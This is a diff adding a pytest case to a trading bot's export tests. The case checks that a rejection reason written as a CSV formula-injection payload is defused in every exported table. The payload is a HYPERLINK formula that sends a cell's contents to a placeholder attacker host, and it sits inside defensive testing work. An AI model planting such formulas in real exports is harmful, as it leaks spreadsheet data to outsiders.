@@ -13,11 +13,13 @@ import pyarrow.parquet as pq  # type: ignore[import-untyped]  # has no types
 import pytest
 
 from bot.export import ROWS_AT_ONCE, TABLES, export
+from bot.listeners.words import reason
 from engine.adapters.sql.tables import AuditRow, DecisionRow, OrderRow, TradeRow
 from engine.errors import SettingsInvalid
-from engine.model.desk import AuditEntry
+from engine.model.desk import AuditEntry, Request
 from engine.model.signal import Side
 from engine.model.trade import Order, OrderRole, OrderState
+from tests.rig import Rig
 
 SEOUL = timezone(timedelta(hours=9))
 AT = datetime(2025, 8, 19, 23, 45, 15, 123456, tzinfo=SEOUL)
@@ -148,6 +150,22 @@ def test_no_cell_of_an_export_is_a_formula_to_a_spreadsheet(tmp_path: Path, colu
         export("audit", [typed], tmp_path / name)
     assert _csv(tmp_path / "audit.csv")[0][column] == f"'{said}"
     assert _parquet(tmp_path / "audit.parquet")[0][column] == said
+
+
+def test_a_traders_words_are_no_formula_in_any_export(tmp_path: Path) -> None:
+    rig = Rig.at_the_example(tmp_path)
+    trade = rig.play_the_signal()
+    assert trade is not None
+    said = reason('=HYPERLINK("http://evil.example/?x="&A1,"Error: click to reload")')
+    rig.engine.reject(trade.id, Request(by="U0TRADER", said=said, id="1"), said)
+    cells = []
+    for table in TABLES:
+        with rig.store.reading() as ledger:
+            export(table, ledger.rows(table), tmp_path / f"{table}.csv")
+        cells += [cell for row in _csv(tmp_path / f"{table}.csv") for cell in row.values()]
+    assert [cell for cell in cells if "HYPERLINK" in cell] == [f"'{said}"] * 4
+    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
+    rig.close()
 
 
 @pytest.mark.parametrize("said", ["", "0", "-12.5", "+3", "AAPL", "a=b", "/halt now", "https://example.com", "손절 -1"])
